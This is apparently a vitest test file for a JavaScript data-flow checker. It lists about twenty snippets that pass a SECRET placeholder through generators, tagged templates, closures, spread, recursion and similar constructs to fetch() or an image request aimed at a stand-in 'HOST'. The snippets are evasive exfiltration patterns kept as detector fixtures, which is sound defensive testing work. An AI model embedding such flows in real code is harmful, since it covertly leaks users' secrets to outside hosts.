import { describe, test } from "vitest";
import {
	type DataFlow,
	expectHarmlessOnOwnSite,
	expectHarmlessWithoutSecret,
	expectLeak,
} from "../testing/data-flow-checks.ts";

const FLOWS: readonly DataFlow[] = [
	["a generator", `function* parts() { yield "HOST/"; yield SECRET; } fetch([...parts()].join(""));`],
	[
		"an async generator",
		`async function* all() { for (const part of [SECRET]) yield part; }
(async () => { for await (const part of all()) fetch("HOST/" + part); })();`,
	],
	[
		"a generator that is fed",
		`function* save() { for (;;) { const got = yield; fetch("HOST/" + got); } } const g = save(); g.next(); g.next(SECRET);`,
	],
	[
		"an iterable class",
		`class Bag { *[Symbol.iterator]() { yield SECRET; } } for (const part of new Bag()) fetch("HOST/" + part);`,
	],
	[
		"a hand-made iterator",
		`const bag = { [Symbol.iterator]: () => ({ next: () => ({ done: false, value: SECRET }) }) }; const [first] = bag; fetch("HOST/" + first);`,
	],
	[
		"a tagged template",
		`const tag = (parts, ...values) => parts.map((part, at) => part + (values[at] ?? "")).join(""); fetch(tag\`HOST/\${SECRET}\`);`,
	],
	[
		"functions of functions",
		`const send = (to) => (method) => (body) => fetch(to, { method, body }); send("HOST")("POST")(SECRET);`,
	],
	[
		"a pipeline",
		`const pipe = (...steps) => (first) => steps.reduce((made, step) => step(made), first); pipe(() => SECRET, btoa, (text) => "HOST/?" + text, (to) => { new Image().src = to; })();`,
	],
	[
		"bind, call and apply",
		`function send(to, text) { fetch(to + text); } send.bind(null, "HOST/").call(null, SECRET);`,
	],
	["spread and rest", `const send = (to, ...rest) => fetch(to + rest.join()); send("HOST/", ...[1, SECRET]);`],
	[
		"object spread",
		`const one = { text: SECRET }; const two = { ...one, more: 1 }; fetch("HOST", { method: "POST", body: JSON.stringify(two) });`,
	],
	["destructuring with defaults and rest", `const { a = 1, ...rest } = { b: SECRET }; fetch("HOST/" + rest.b);`],
	[
		"a function that calls itself by its own name",
		`fetch("HOST/" + (function again(left) { return left > 0 ? again(left - 1) : SECRET; })(3));`,
	],
	[
		"a recursive function",
		`function walk(list, out) { if (list.length === 0) return out; out.push(list[0]); return walk(list.slice(1), out); } fetch("HOST/" + walk([1, SECRET], []).join());`,
	],
	[
		"one of many functions with the same code, called inside another of them",
		`const make = (to, next) => (data, deep) => { if (deep > 0) next(data, deep - 1); fetch(to, { method: "POST", body: data }); }; const far = make("HOST", () => 0); const near = make("/a", (data, deep) => far(data, deep)); document.onclick = () => { ${Array.from({ length: 12 }, (_, at) => `near(page.x${at});`).join(" ")} near(SECRET, page.n); };`,
	],
	["the arguments object", `function send() { fetch(arguments[0] + arguments[1]); } send("HOST/", SECRET);`],
	["a default parameter", `const send = (text = SECRET) => fetch("HOST/" + text); send();`],
	["a default parameter of a function nobody calls", `const send = (text = SECRET) => fetch("HOST/" + text);`],
	[
		"yield*",
		`function* one() { yield SECRET; } function* two() { yield* one(); } for (const text of two()) fetch("HOST/" + text);`,
	],
	["the value a generator returns", `function* one() { return SECRET; } fetch("HOST/" + one().next().value);`],
];

/** Their address passes through items or members that a skeptical run doubts. */
const DOUBTED = new Set(["a generator", "a tagged template", "a pipeline", "the arguments object"]);

describe("data through functions and iterators", () => {
	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
		expectHarmlessWithoutSecret(code),
	);
	test.each(FLOWS)("%s may carry anything on the site itself", (title, code) =>
		expectHarmlessOnOwnSite(code, DOUBTED.has(title) ? "amber" : "green"),
	);
});
